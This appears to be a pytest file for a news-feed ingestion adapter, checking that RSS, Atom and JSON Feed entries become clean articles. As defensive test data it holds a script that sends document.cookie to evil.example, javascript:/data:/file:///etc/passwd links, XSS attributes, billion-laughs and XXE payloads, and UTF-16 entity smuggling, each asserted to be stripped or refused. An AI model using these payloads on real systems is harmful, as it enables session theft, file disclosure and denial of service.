"""RSS, Atom and JSON Feed: entries become articles; hostile feeds are refused or defused."""

import json
import secrets
from datetime import UTC, datetime
from pathlib import Path

import pytest
from django.conf import settings

from ingest.exceptions import FormatError, MalformedFeed, UnsafeXML, XMLTooLarge
from ingest.formats import RawDocument, detect_adapter
from ingest.formats.feeds import MAX_BYLINE_BYTES, SUMMARY_ONLY, FeedAdapter, parse_feed_bytes
from newsroom.article import SourceCredit

SHARED = Path(settings.BASE_DIR).parent / "shared"
MINIMAL = SHARED / "data" / "feeds" / "rss_atom_minimal"
NEWSML = SHARED / "data" / "newsml"
needs_minimal = pytest.mark.skipif(
    not MINIMAL.is_dir(), reason=f"{MINIMAL} (shared feed samples) is not present"
)

LONG_PARAGRAPH = (
    "Les autorités portuaires estiment que le trafic retrouvera son niveau habituel avant la "
    "fin du mois, selon un communiqué publié dans la matinée par la direction du terminal."
)

RSS_WITH_CONTENT = f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">
<channel>
  <title>Le Quotidien &amp; Cie</title>
  <link>https://partner.example/actualites/</link>
  <language>fr-FR</language>
  <item>
    <title>Le port &lt;em&gt;rouvre&lt;/em&gt; ses quais &amp;eacute;largis</title>
    <link>/2024/03/port-rouvre</link>
    <guid isPermaLink="false">partner-4521</guid>
    <dc:creator>Leïla Ben Salah</dc:creator>
    <category>Économie</category>
    <category>Transport</category>
    <pubDate>Mon, 11 Mar 2024 09:30:00 +0100</pubDate>
    <description>Après trois semaines de travaux, le terminal nord accueille de nouveau
      les cargos.</description>
    <content:encoded><![CDATA[
      <p>BEYROUTH (AFP) – Le port a rouvert ses quais aux cargos ce lundi, après trois
      semaines de travaux sur les grues.</p>
      <p>{LONG_PARAGRAPH}</p>
      <script>document.location='https://evil.example/?c='+document.cookie</script>
      <p>Les armateurs <a href="javascript:alert(1)">attendaient</a> cette réouverture.</p>
    ]]></content:encoded>
    <enclosure url="/images/port.jpg" type="image/jpeg" length="1000"/>
    <enclosure url="https://partner.example/audio.mp3" type="audio/mpeg" length="1000"/>
    <media:content url="https://cdn.partner.example/grue.jpg" medium="image"/>
  </item>
</channel>
</rss>""".encode()

ATOM_SUMMARY_ONLY = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr">
  <title type="html">Partenaire &lt;b&gt;Maghreb&lt;/b&gt;</title>
  <link href="https://maghreb.example/"/>
  <id>urn:uuid:feed</id>
  <updated>2024-03-11T08:00:00Z</updated>
  <entry>
    <title>Tunis accueille le sommet</title>
    <link href="articles/sommet" rel="alternate"/>
    <id>urn:uuid:entry-1</id>
    <updated>2024-03-11T10:15:00+02:00</updated>
    <author><name>Karim Haddad</name></author>
    <summary type="html">&lt;p&gt;Les dirigeants se retrouvent mardi.&lt;/p&gt;</summary>
  </entry>
</feed>"""

JSON_FEED = {
    "version": "https://jsonfeed.org/version/1.1",
    "title": "Partenaire JSON",
    "home_page_url": "https://json.example/",
    "language": "fr-FR",
    "items": [
        {
            "id": 1042,
            "url": "/a/1042",
            "title": "Le barrage est achevé",
            "content_html": f"<p>Le chantier a duré six ans.</p><p>{LONG_PARAGRAPH}</p>",
            "summary": "Six ans de chantier.",
            "date_published": "2024-03-11T10:00:00+01:00",
            "authors": [{"name": "Sara Idrissi"}, {"name": "Omar Kaci"}],
            "tags": ["Énergie", "Maroc"],
            "image": "https://json.example/barrage.jpg",
        },
        {
            "id": "plain-2",
            "url": "https://json.example/a/2",
            "title": "Texte brut",
            "content_text": "Premier paragraphe, a < b.\n\nSecond paragraphe &amp; fin.",
            "date_modified": "2024-03-12T08:00:00Z",
            "author": {"name": "Rédaction"},
        },
    ],
}


def _doc(content, **kwargs):
    return RawDocument(content=content, **kwargs)


def _extract(content, **kwargs):
    return FeedAdapter().extract(_doc(content, **kwargs))


def _everything(articles):
    return json.dumps([article.to_json() for article in articles], ensure_ascii=False)


def _rss(items, channel_extra="", prolog='<?xml version="1.0" encoding="UTF-8"?>'):
    return (
        f'{prolog}<rss version="2.0"><channel><title>Fil</title>'
        f"<link>https://fil.example/</link>{channel_extra}{items}</channel></rss>"
    )


# Shared samples ------------------------------------------------------------------------------
@needs_minimal
def test_shared_atom_sample():
    articles = _extract((MINIMAL / "feed1.atom").read_bytes())
    assert [article.title for article in articles] == [
        "Atom-Powered Robots Run Amok",
        "Self-referenced link",
    ]
    first = articles[0]
    assert first.guid == "urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a"
    assert first.source == SourceCredit(
        outlet="Example Feed", url="http://example.org/2003/12/13/atom03"
    )
    assert first.body == ("Some text.",)
    assert SUMMARY_ONLY in first.warnings
    assert first.published == datetime(2003, 12, 13, 18, 30, 2, tzinfo=UTC)
    assert first.format == "feed"
    # The second entry links only to itself (rel="self"): no page to credit.
    assert articles[1].source.url == ""


@needs_minimal
def test_shared_rss_sample():
    (article,) = _extract((MINIMAL / "feed2.rss").read_bytes())
    assert article.title == "Example entry"
    assert article.guid == "7bd204c6-1655-4c27-aeee-53f933c5395f"
    assert article.source.outlet == "RSS Title"
    assert article.source.url == "http://www.example.com/blog/post/1"
    assert article.body == ("Here is some text containing an interesting description.",)
    assert article.published == datetime(2009, 9, 6, 16, 20, tzinfo=UTC)
    assert SUMMARY_ONLY in article.warnings


@needs_minimal
def test_shared_json_feed_sample():
    document = _doc((MINIMAL / "feed.json").read_bytes(), url="https://feeds.npr.org/feed.json")
    assert detect_adapter(document).name == "feed"
    articles = FeedAdapter().extract(document)
    assert len(articles) == 25
    first = articles[0]
    assert first.guid == "1050315385"
    assert first.title == "Keller Rinaudo: How can delivery drones save lives?"
    assert first.source.outlet == "Technology"
    assert first.source.author == first.byline == "Manoush Zomorodi"
    assert first.source.url.startswith("https://www.npr.org/2021/10/29/1050315385/")
    assert first.published == datetime(2021, 10, 29, 14, 26, tzinfo=UTC)
    assert first.images[0].url.startswith("https://media.npr.org/assets/img/2021/10/29/")
    assert first.body[0].startswith("In rural areas, basic health care")
    # content_html only repeats the summary (plus a tracking pixel): a teaser.
    assert SUMMARY_ONLY in first.warnings
    tagged = next(article for article in articles if article.guid == "1049736477")
    assert tagged.subjects == ("YouTube", "Google")


# Sniffing ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "content",
    [
        b'<?xml version="1.0"?>\n<rss version="2.0"><channel/></rss>',
        b"\xef\xbb\xbf<rss version='2.0'><channel/></rss>",
        b'<?xml version="1.0"?><!-- generator: x --><?xml-stylesheet href="s.xsl"?>'
        b'<feed xmlns="http://www.w3.org/2005/Atom"/>',
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>',
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "x.dtd">'
        b"<rss version='0.91'/>",
        '<?xml version="1.0" encoding="utf-16"?><feed/>'.encode("utf-16"),
        b'{"version": "https://jsonfeed.org/version/1.1", "items": []}',
        b'{"version":"https:\\/\\/jsonfeed.org\\/version\\/1","items":[]}',
    ],
)
def test_feeds_are_recognised(content):
    assert FeedAdapter().sniff(_doc(content))


@pytest.mark.parametrize(
    ("content", "content_type"),
    [
        (b"<!DOCTYPE html><html><head><title>rss</title></head></html>", ""),
        (b"<html><body><feed>no</feed></body></html>", "application/rss+xml"),
        (b'<?xml version="1.0"?><!DOCTYPE html><html xmlns="http://www.w3.org/1999/xhtml"/>', ""),
        (
            b'<?xml version="1.0"?><newsItem xmlns="http://iptc.org/std/nar/2006-10-01/"/>',
            "application/xml",
        ),
        (
            b'<?xml version="1.0"?><nar:newsMessage xmlns:nar="http://iptc.org/std/nar/2006-10-01/"/>',
            "application/atom+xml",
        ),
        (b"Le port rouvre\n\nBEYROUTH - Le port a rouvert.", "application/rss+xml"),
        (b'{"version": "1.0", "items": []}', "application/json"),
        (b'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/"/>', "application/xml"),
        (b"", ""),
    ],
)
def test_other_documents_are_not_claimed(content, content_type):
    assert not FeedAdapter().sniff(_doc(content, content_type=content_type))


def test_content_type_decides_when_the_root_is_beyond_the_first_bytes():
    content = b"<?xml version='1.0'?><!--" + b"x" * 3000 + b"--><rss version='2.0'/>"
    assert not FeedAdapter().sniff(_doc(content))
    assert FeedAdapter().sniff(_doc(content, content_type="application/rss+xml; charset=utf-8"))


def test_json_feed_content_type_counts_when_the_version_comes_late():
    content = json.dumps({"items": [{"id": "1", "title": "T"}] * 200, "version": "x"}).encode()
    assert not FeedAdapter().sniff(_doc(content, content_type="application/json"))
    assert FeedAdapter().sniff(_doc(content, content_type="application/feed+json"))
    assert len(_extract(content)) == 200


@pytest.mark.skipif(not NEWSML.is_dir(), reason=f"{NEWSML} (NewsML-G2 samples) is not present")
def test_newsml_samples_are_left_to_the_newsml_adapter():
    for path in NEWSML.glob("*.xml"):
        assert not FeedAdapter().sniff(_doc(path.read_bytes(), content_type="text/xml")), path


def test_detect_adapter_routes_feeds_here():
    assert detect_adapter(_doc(RSS_WITH_CONTENT)).name == "feed"
    assert detect_adapter(_doc(ATOM_SUMMARY_ONLY)).name == "feed"


# Extraction ----------------------------------------------------------------------------------
def test_rss_with_full_content():
    (article,) = _extract(RSS_WITH_CONTENT, url="https://partner.example/rss.xml")
    assert article.title == "Le port rouvre ses quais élargis"
    assert article.guid == "partner-4521"
    assert article.source.outlet == "Le Quotidien & Cie"
    assert article.source.author == article.byline == "Leïla Ben Salah"
    assert article.source.url == "https://partner.example/2024/03/port-rouvre"
    assert article.published == datetime(2024, 3, 11, 8, 30, tzinfo=UTC)
    assert article.subjects == ("Économie", "Transport")
    assert article.language == "fr"
    assert article.dateline is not None and article.dateline.places == ("Beyrouth",)
    assert article.body[0].startswith("Le port a rouvert ses quais aux cargos ce lundi")
    assert article.body[1] == LONG_PARAGRAPH
    assert article.body[2] == "Les armateurs attendaient cette réouverture."
    assert article.standfirst == (
        "Après trois semaines de travaux, le terminal nord accueille de nouveau les cargos."
    )
    assert [image.url for image in article.images] == [
        "https://partner.example/images/port.jpg",
        "https://cdn.partner.example/grue.jpg",
    ]
    assert SUMMARY_ONLY not in article.warnings
    everything = _everything([article])
    assert "document.cookie" not in everything
    assert "javascript" not in everything


def test_atom_with_summary_only_is_flagged_for_the_full_page():
    (article,) = _extract(ATOM_SUMMARY_ONLY)
    assert article.warnings == (SUMMARY_ONLY,)
    assert article.body == ("Les dirigeants se retrouvent mardi.",)
    assert article.standfirst == ""
    assert article.title == "Tunis accueille le sommet"
    assert article.source.outlet == "Partenaire Maghreb"
    assert article.source.author == "Karim Haddad"
    assert article.source.url == "https://maghreb.example/articles/sommet"
    assert article.language == "fr"
    assert article.published == datetime(2024, 3, 11, 8, 15, tzinfo=UTC)


def test_short_content_that_repeats_the_summary_is_summary_only():
    item = (
        "<item><title>Court</title><description>Deux phrases.</description>"
        "<content:encoded xmlns:content='http://purl.org/rss/1.0/modules/content/'>"
        "&lt;p&gt;Deux phrases.&lt;/p&gt;</content:encoded></item>"
    )
    (article,) = _extract(_rss(item).encode())
    assert SUMMARY_ONLY in article.warnings
    assert article.body == ("Deux phrases.",)


def test_long_content_without_a_separate_summary_is_full_text():
    item = (
        "<item><title>Long</title>"
        f"<description>&lt;p&gt;{LONG_PARAGRAPH * 3}&lt;/p&gt;</description></item>"
    )
    atom = (
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>F</title><entry><title>Long</title>'
        f'<id>x</id><content type="html">&lt;p&gt;{LONG_PARAGRAPH * 3}&lt;/p&gt;</content>'
        "</entry></feed>"
    )
    assert SUMMARY_ONLY in _extract(_rss(item).encode())[0].warnings  # a description only
    assert SUMMARY_ONLY not in _extract(atom.encode())[0].warnings  # real content


def test_json_feed():
    document = _doc(json.dumps(JSON_FEED).encode(), url="https://json.example/feed.json")
    first, second = FeedAdapter().extract(document)
    assert first.guid == "1042"
    assert first.source.url == "https://json.example/a/1042"
    assert first.source.author == "Sara Idrissi, Omar Kaci"
    assert first.source.outlet == "Partenaire JSON"
    assert first.body == ("Le chantier a duré six ans.", LONG_PARAGRAPH)
    assert first.standfirst == "Six ans de chantier."
    assert first.published == datetime(2024, 3, 11, 9, 0, tzinfo=UTC)
    assert first.subjects == ("Énergie", "Maroc")
    assert first.images[0].url == "https://json.example/barrage.jpg"
    assert first.language == "fr"
    assert SUMMARY_ONLY not in first.warnings
    # content_text is plain: nothing in it is markup or a character reference.
    assert second.body == ("Premier paragraphe, a < b.", "Second paragraphe &amp; fin.")
    assert second.published == datetime(2024, 3, 12, 8, 0, tzinfo=UTC)
    assert second.source.author == "Rédaction"


def test_relative_links_resolve_against_the_feed_link_then_the_document_url():
    items = (
        "<item><title>A</title><link>../b/c?x=1&amp;y=2</link><description>t</description></item>"
    )
    (article,) = _extract(
        _rss(items).replace("https://fil.example/", "https://fil.example/rubrique/").encode()
    )
    assert article.source.url == "https://fil.example/b/c?x=1&y=2"
    # A feed whose own link is relative: the address it was fetched from is the base.
    relative_channel = _rss(items).replace("https://fil.example/", "/site/").encode()
    (article,) = _extract(relative_channel, url="https://host.example/feeds/rss.xml")
    assert article.source.url == "https://host.example/b/c?x=1&y=2"
    # No base at all: a relative link cannot be credited.
    no_base = _rss(items).replace("<link>https://fil.example/</link>", "").encode()
    assert _extract(no_base)[0].source.url == ""


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(document.domain)",
        "JAVASCRIPT:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "  javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
    ],
)
def test_hostile_entry_links_are_dropped(link):
    items = (
        f"<item><title>Piège</title><link>{link}</link><guid>g1</guid>"
        "<description>&lt;p onclick=alert(1)&gt;Texte&lt;img src=x onerror=alert(2)&gt;"
        "&lt;/p&gt;&lt;script&gt;alert(3)&lt;/script&gt;</description>"
        f'<enclosure url="{link}" type="image/png" length="1"/></item>'
    )
    (article,) = _extract(_rss(items).encode())
    assert article.source.url == ""
    assert article.images == ()
    assert article.body == ("Texte",)
    assert "alert" not in _everything([article])


def test_billion_laughs_is_refused():
    laughs = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><description>x</description></item></channel></rss>"""
    with pytest.raises(UnsafeXML):
        _extract(laughs)


def test_external_entity_is_refused_and_the_file_never_read(tmp_path):
    nonce = secrets.token_hex(16)
    secret = tmp_path / "secret.txt"
    secret.write_text(nonce)
    xxe = f"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>
<rss version="2.0"><channel><title>&xxe;</title>
<item><title>&xxe;</title><description>&xxe;</description></item></channel></rss>"""
    with pytest.raises(UnsafeXML) as refused:
        _extract(xxe.encode())
    assert nonce not in str(refused.value)


def test_a_document_that_is_only_a_path_is_not_opened(tmp_path):
    """feedparser opens a bare bytes argument as a file name: we always hand it a stream."""
    nonce = secrets.token_hex(16)
    secret = tmp_path / "feed.xml"
    secret.write_text(_rss(f"<item><title>{nonce}</title><description>x</description></item>"))
    content = str(secret).encode()
    try:
        output = _everything(_extract(content))
    except MalformedFeed as error:
        output = str(error)
    assert nonce not in output
    assert nonce not in json.dumps(parse_feed_bytes(content), default=str)


def test_external_doctype_is_not_fetched():
    """No DTD is loaded: the loopback guard fails the test if anything connects."""
    content = (
        b'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://dtd.evil.example/rss.dtd">'
        b'<rss version="2.0"><channel><title>F</title><item><title>Titre</title>'
        b"<description>Texte</description></item></channel></rss>"
    )
    (article,) = _extract(content)
    assert article.title == "Titre"


def test_a_huge_single_token_is_refused():
    content = b'<rss version="2.0"><channel><title>' + b"A" * (20 * 1024 * 1024)
    with pytest.raises(XMLTooLarge):
        _extract(content + b"</title></channel></rss>")
    # Under the document cap, a single 3 MB text node is still too large.
    content = b'<rss version="2.0"><channel><title>' + b"A" * (3 * 1024 * 1024)
    with pytest.raises(XMLTooLarge):
        _extract(content + b"</title></channel></rss>")


def test_ill_formed_but_readable_feed_still_gives_its_entries():
    content = (
        b'<rss version="2.0"><channel><title>Fil & Co</title>'
        b"<item><title>Premier & dernier</title><description>Texte <b>gras</description></item>"
        b"<item><title>Second</title><description>Encore</description>"
    )
    first, second = _extract(content)
    assert first.title == "Premier & dernier"
    assert first.body == ("Texte gras",)
    assert second.title == "Second"
    assert any(warning.startswith("ill-formed feed") for warning in first.warnings)


LATIN1_FEED = (
    '<?xml version="1.0" encoding="ISO-8859-1"?>'
    '<rss version="2.0"><channel><title>Café</title><link>https://cafe.example/</link>'
    "<item><title>Été brûlant à Tunis</title><description>Déjà 45 °C.</description></item>"
    "</channel></rss>"
).encode("latin-1")


def test_latin1_declared_in_the_prolog_is_decoded():
    (article,) = _extract(LATIN1_FEED)
    assert article.title == "Été brûlant à Tunis"
    assert article.body == ("Déjà 45 °C.",)
    assert article.source.outlet == "Café"


def test_http_charset_that_lies_does_not_garble_the_text():
    """RFC 3023 puts the HTTP charset first. When it lies, feedparser cannot decode the bytes
    with it, falls back on the XML declaration and flags the feed (CharacterEncodingOverride):
    the text is right and the editor sees why."""
    (article,) = _extract(LATIN1_FEED, content_type="application/rss+xml; charset=utf-8")
    assert article.title == "Été brûlant à Tunis"
    assert any("parsed as iso-8859-1" in warning for warning in article.warnings)
    # The other way round, UTF-8 bytes announced as Latin-1, decode without error into
    # mojibake; feedparser repairs text that re-encodes to valid UTF-8.
    utf8 = LATIN1_FEED.decode("latin-1").replace("ISO-8859-1", "UTF-8").encode()
    (article,) = _extract(utf8, content_type="application/rss+xml; charset=iso-8859-1")
    assert article.title == "Été brûlant à Tunis"


def test_the_http_content_type_reaches_feedparser():
    parsed = parse_feed_bytes(LATIN1_FEED, "text/xml")  # text/xml without charset: us-ascii
    assert parsed.bozo
    assert parsed.headers["content-type"] == "text/xml"
    assert parsed.entries[0].title == "Été brûlant à Tunis"


def test_entries_without_title_or_text_are_skipped():
    items = (
        "<item><link>https://fil.example/vide</link></item>"
        "<item><title>Bon</title><description>Texte</description></item>"
        "<item><description>Sans titre mais avec du texte</description></item>"
    )
    articles = _extract(_rss(items).encode())
    assert [article.title for article in articles] == ["Bon", ""]
    assert articles[1].body == ("Sans titre mais avec du texte",)


def test_a_title_without_text_asks_for_the_full_page():
    items = "<item><title>Titre seul</title><link>https://fil.example/a</link></item>"
    (article,) = _extract(_rss(items).encode())
    assert article.body == ()
    assert SUMMARY_ONLY in article.warnings


def test_a_feed_with_only_bad_entries_is_malformed():
    items = "<item><link>https://fil.example/1</link></item><item><guid>2</guid></item>"
    with pytest.raises(MalformedFeed, match="2 entries"):
        _extract(_rss(items).encode())


def test_a_broken_feed_without_entries_reports_feedparser_diagnosis():
    with pytest.raises(MalformedFeed, match=r"no readable entry: .*unclosed token"):
        _extract(b"<rss version='2.0'><channel><title>x</ti")


def test_an_empty_but_valid_feed_is_nothing_new():
    assert _extract(_rss("").encode()) == []


def test_xml_that_is_not_a_feed_is_malformed():
    with pytest.raises(MalformedFeed):
        _extract(b'<?xml version="1.0"?><urlset><url><loc>https://x.example/</loc></url></urlset>')


def test_malformed_json_feed():
    with pytest.raises(MalformedFeed):
        _extract(b'{"version": "https://jsonfeed.org/version/1.1", "items": [')
    with pytest.raises(MalformedFeed):
        _extract(b'{"version": "https://jsonfeed.org/version/1.1", "items": {"a": 1}}')


def test_dates_fall_back_to_updated_and_are_utc():
    atom = (
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>F</title><entry><title>T</title>'
        "<id>i</id><updated>2024-01-31T23:30:00-05:00</updated><summary>S</summary></entry>"
        "<entry><title>Sans date</title><id>j</id><summary>S</summary></entry></feed>"
    )
    dated, undated = _extract(atom.encode())
    assert dated.published == datetime(2024, 2, 1, 4, 30, tzinfo=UTC)
    assert dated.published.tzinfo is not None
    assert undated.published is None


def test_an_encoding_the_validator_cannot_read_is_refused_not_crashed():
    """An encoding the validator cannot read: the bytes did not pass it, so they never reach
    feedparser, and the error is an IngestError the service handles."""
    content = (
        b'<?xml version="1.0" encoding="bogus"?><rss><channel><title>x</title></channel></rss>'
    )
    with pytest.raises(FormatError, match="encoding"):
        _extract(content)


@pytest.mark.parametrize(
    "encode",
    [
        lambda text: text.encode("utf-16"),  # with a byte order mark
        lambda text: text.encode("utf-16-le"),  # told by how "<?" is spelled
        lambda text: text.encode("utf-32"),
    ],
    ids=["utf-16", "utf-16-le-without-bom", "utf-32"],
)
def test_entities_in_a_utf16_feed_that_lies_about_its_encoding_are_refused(encode):
    """The pattern check read raw bytes, where "<!ENTITY" in UTF-16 does not appear, and the
    parser gave up on the false declaration: the feed reached feedparser, which only called
    it malformed. A refusal names the danger, and nothing with entities reaches a parser."""
    laughs = """<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE rss [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<rss version="2.0"><channel><title>&lol2;</title>
<item><title>&lol2;</title><description>x</description></item></channel></rss>"""
    with pytest.raises(UnsafeXML):
        _extract(encode(laughs))


@pytest.mark.parametrize("element", ["author", "dc:creator", "managingEditor", "itunes:author"])
def test_a_huge_byline_is_cut_before_feedparser_reads_it(element):
    """feedparser's e-mail search over a by-line takes quadratic time: 60 KB held a worker
    for about 15 s. feedparser must never be handed a by-line longer than the cap."""
    huge = "Rédaction " + "x" * 60_000
    content = _rss(
        f"<item><guid>a</guid><title>Titre</title><{element}>{huge}</{element}>"
        f"<description>{LONG_PARAGRAPH}</description></item>"
    ).encode()
    content = content.replace(
        b"<rss ",
        b'<rss xmlns:dc="http://purl.org/dc/elements/1.1/" '
        b'xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" ',
        1,
    )

    entry = parse_feed_bytes(content).entries[0]

    assert entry.author.startswith("Rédaction xxx")
    assert len(entry.author.encode()) <= MAX_BYLINE_BYTES
    (article,) = _extract(content)
    assert article.title == "Titre"
